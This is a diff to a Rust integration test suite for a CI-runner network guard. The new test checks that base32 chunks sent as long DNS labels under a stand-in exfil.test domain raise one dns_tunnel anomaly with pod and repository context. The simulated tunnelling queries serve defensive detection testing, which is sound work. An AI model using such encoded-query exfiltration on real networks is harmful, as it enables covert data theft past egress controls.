@@ -33,6 +33,18 @@ fn arc_pod(n: &Node, name: &str, uid: &str, labels: Value, annotations: Value) {
     }));
 }
 
+/// A ready agent writing its records to a file (returned) instead of stdout.
+fn agent_with_events_file(n: &Node) -> (common::agent::Agent, std::path::PathBuf) {
+    let events = n.dir.join("events.jsonl");
+    let agent = start_agent(
+        n,
+        &["--no-events-stdout", "--events-file", events.to_str().unwrap()],
+        None,
+    );
+    wait_ready(&agent, Duration::from_secs(60));
+    (agent, events)
+}
+
 /// The records of the agent's events file so far.
 fn records(path: &std::path::Path) -> Vec<Value> {
     std::fs::read_to_string(path)
@@ -75,13 +87,7 @@ fn an_arc_workflow_pod_is_guarded_by_its_runners_policy_with_its_runners_ci_cont
     ));
     let workflow = n.pod_cgroup(&workflow_uid);
     n.pod_cgroup(&runner_uid);
-    let events = n.dir.join("events.jsonl");
-    let agent = start_agent(
-        &n,
-        &["--no-events-stdout", "--events-file", events.to_str().unwrap()],
-        None,
-    );
-    wait_ready(&agent, Duration::from_secs(60));
+    let (agent, events) = agent_with_events_file(&n);
     // `pipeguard events --summary-markdown` follows the stream until told to stop.
     let streamed_md = n.dir.join("stream.md");
     let follower = Command::new(env!("CARGO_BIN_EXE_pipeguard"))
@@ -172,6 +178,99 @@ fn an_arc_workflow_pod_is_guarded_by_its_runners_policy_with_its_runners_ci_cont
     assert!(
         String::from_utf8_lossy(&missing.stderr).contains("no-such-file"),
         "{missing:?}"
+    );
+    drop(agent);
+}
+
+/// The agent feeds dns_tunnel the DNS questions its kernel refuses: a runner sending base32
+/// chunks in long labels raises one anomaly on the events file, with the pod and CI context;
+/// its ordinary refused name raises none.
+#[test]
+fn the_agent_raises_dns_tunnel_for_a_runners_encoded_queries() {
+    let n = node("agent-dns-tunnel");
+    let pid = std::process::id();
+    let resolver_ip = format!("127.57.{}.{}", (pid / 250) % 250, pid % 250 + 1);
+    let dns = common::dnsmasq::Dnsmasq::start("agent-tunnel", &resolver_ip, "127.0.0.1 build.pg.test\n", 60);
+    let r = dns.addr;
+    let runner_uid = uid(0xd5a1);
+    n.server.install_crds();
+    n.server.apply(namespace("arc-runners"));
+    arc_pod(
+        &n,
+        "linux-runner-dns",
+        &runner_uid,
+        json!({"app": "runner", "actions.github.com/scale-set-name": "linux"}),
+        json!({"actions.github.com/repository": "org/app"}),
+    );
+    n.server.apply(json!({
+        "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
+        "metadata": {"name": "dns", "namespace": "arc-runners"},
+        "spec": {"podSelector": {"matchLabels": {"app": "runner"}}, "policyTypes": ["Egress"],
+                 "egress": [{"to": [{"ipBlock": {"cidr": format!("{resolver_ip}/32")}}],
+                             "ports": [{"protocol": "UDP", "port": 53}]}]}
+    }));
+    n.server.apply(json!({
+        "apiVersion": "pipeguard.dev/v1alpha1", "kind": "DomainPolicy",
+        "metadata": {"name": "names", "namespace": "arc-runners"},
+        "spec": {"podSelector": {"matchLabels": {"app": "runner"}},
+                 "egress": [{"domains": ["build.pg.test"], "ports": [{"port": 443}]}]}
+    }));
+    let runner = n.pod_cgroup(&runner_uid);
+    let (agent, events) = agent_with_events_file(&n);
+    // DNS-filtered once its ordinary refused name fails with EPERM.
+    eventually(
+        Duration::from_secs(30),
+        "the runner's DNS was never filtered",
+        || run_probe(&runner, &[format!("dns-udp {r} telemetry.exfil.test")])[0].denied_with_eperm(),
+    );
+    let chunk = "mzxw6ytboi2dkmrtgq3tqnzsgeydmobqgiztinjwg4ydembqgi3tsnzq";
+    let outcomes = run_probe(
+        &runner,
+        &[
+            format!("dns-udp {r} build.pg.test"),
+            format!("dns-udp {r} {chunk}.0.t.exfil.test"),
+            format!("dns-udp {r} {chunk}.1.t.exfil.test"),
+        ],
+    );
+    assert!(outcomes[0].ok, "{outcomes:?}");
+    assert!(
+        outcomes[1].denied_with_eperm() && outcomes[2].denied_with_eperm(),
+        "{outcomes:?}"
+    );
+
+    let tunnel = |records: &[Value]| -> Vec<Value> {
+        records
+            .iter()
+            .filter(|r| r["kind"] == "anomaly" && r["signal"] == "dns_tunnel")
+            .cloned()
+            .collect()
+    };
+    let mut found = Vec::new();
+    eventually(Duration::from_secs(10), "no dns_tunnel anomaly", || {
+        found = tunnel(&records(&events));
+        !found.is_empty()
+    });
+    assert_eq!(found.len(), 1, "once per domain per window: {found:?}");
+    let a = &found[0];
+    assert_eq!(a["pod"]["name"], "linux-runner-dns", "{a}");
+    assert_eq!(a["ci"]["fields"]["repository"], "org/app", "{a}");
+    assert!(
+        a["reason"]
+            .as_str()
+            .unwrap()
+            .contains("56-character label under exfil.test"),
+        "{a}"
+    );
+    assert!(
+        records(&events)
+            .iter()
+            .any(|r| r["query"] == "telemetry.exfil.test" && r["verdict"] == "deny"),
+        "the ordinary refusal is a record, not an anomaly"
+    );
+    let (_, metrics) = common::agent::http_get(&agent.listen, "/metrics").unwrap();
+    assert!(
+        metrics.contains("pipeguard_anomalies_total{signal=\"dns_tunnel\"} 1"),
+        "{metrics}"
     );
     drop(agent);
 }
